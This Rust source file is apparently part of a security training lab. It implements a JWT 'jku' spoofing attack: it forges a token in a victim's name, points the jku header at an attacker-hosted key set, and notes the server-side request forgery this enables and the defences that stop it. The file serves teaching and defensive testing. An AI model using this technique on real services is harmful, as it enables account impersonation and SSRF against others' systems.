//! Sending the verifier to fetch a key. Worksheet 12.
//!
//! Start: the attacker has an ordinary account, a pair of keys, and a web site on which the public
//! one is published.
//!
//! Why it works: the weak `jwt-key-source` fetches keys from an address that the token names. That
//! is two flaws: the server sends a request where a stranger wants it, and it believes what it
//! finds there.
//!
//! Proof: the API works in the victim's name. The journal of the bench also notes that a key set
//! was fetched.
//!
//! Stopped by `jwt-key-source` together with `jwt-signature`: nothing is fetched, and by the
//! portal's own key the signature is wrong. Not stopped by TLS: the attacker's site may have a good
//! certificate of its name. Not by `jwt-algorithm` or `jwt-kid`, as in `inline_jwk.rs`.
//!
//! Refused for this program: an address inside the victim's network, to show the server-side
//! request forgery. The portal of this lab fetches from the lab's own sites only, so that no token
//! can send it elsewhere.
//!
//! Source: RFC 7515 §4.1.2 (`jku`), RFC 8725 §3.10, ASVS 9.1.3, CWE-918, CWE-347. Read
//! `src/defences/jwt_key_source.rs` next.

use super::super::scenario::{ATTACKER, Scenario, ScenarioError, VICTIM};
use super::super::{Attack, Card, Engine, Outcome};
use super::bearer::{judge, own_parts};
use crate::attacks::forged_key_sets;
use crate::defences::policy::Name;
use async_trait::async_trait;

pub(in crate::attacks) struct SpoofedJku;

const CARD: Card = Card {
    name: "spoofed-jku",
    title: "A token that says where its key is",
    engine: Engine::Http,
    victim: "Has an account, and need not be signed in.",
    means: "The attacker publishes a key set on their own site. They sign a token in the victim's \
            name with their private key and write the address of the set into the header, as jku.",
    evidence: "The profile says that the attacker is logged in as the victim.",
    stopped_by: &[&[Name::JwtKeySource, Name::JwtSignature]],
    when_stopped: "The API fetched nothing and verified with its own key.",
    shows: &["JWT-JKU"],
    standards: &["ASVS 9.1.3", "CWE-347", "CWE-918", "WSTG-INPV-19"],
};

#[async_trait]
impl Attack for SpoofedJku {
    fn card(&self) -> &'static Card {
        &CARD
    }

    async fn run(&self, scenario: &Scenario) -> Result<Outcome, ScenarioError> {
        scenario.narrate("The attacker signs in to their own account and decodes the token.");
        let mut attacker = scenario.actor("attacker");
        let own = own_parts(&mut attacker, ATTACKER).await?;

        scenario.narrate(
            "The attacker signs with their own key and names the address where it is published.",
        );
        // `jku` is an address that the verifier may fetch keys from. The attacker writes it, so the
        // server sends a request wherever they want: that alone is a hole (server-side request
        // forgery), before any token is accepted.
        let forged = own
            .in_the_name_of(VICTIM)
            .with_header("kid", PORTALS_KEY)
            .with_header("jku", scenario.attackers_key_set());
        // The signature fits the fetched key. The strong arm of `jwt-key-source` fetches nothing. A
        // list of allowed addresses is the usual middle way; it fails where the allowed host has an
        // open redirect or an upload.
        let token = forged.es256(forged_key_sets::signing_key())?;
        judge(&CARD, &mut attacker, &token, VICTIM).await
    }
}

/// A verifier that ignores the header finds this key, and it is for the same algorithm. So on the
/// strong arm the token is refused for its signature. The set also has `jwt-signature`: a verifier
/// that checks nothing accepts it anyway.
const PORTALS_KEY: &str = "es-1";
